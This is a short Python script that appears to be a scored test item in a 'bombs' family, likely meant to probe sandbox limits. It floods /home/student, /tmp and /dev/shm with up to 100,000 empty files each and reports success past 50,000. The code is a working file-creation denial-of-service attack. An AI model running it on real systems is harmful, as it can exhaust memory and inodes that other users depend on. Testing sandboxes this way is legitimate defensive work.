"""
family = "bombs"
tries = "Makes empty files without end: each takes memory of the system's that counts as nobody's."
points = 3
"""

# %% own
import os

made = 0
for folder in ("/home/student", "/tmp", "/dev/shm"):
    try:
        for number in range(100_000):
            os.mknod(f"{folder}/{number}")
            made += 1
    except OSError:
        pass
if made > 50_000:
    print("\N{SKULL AND CROSSBONES}", made)
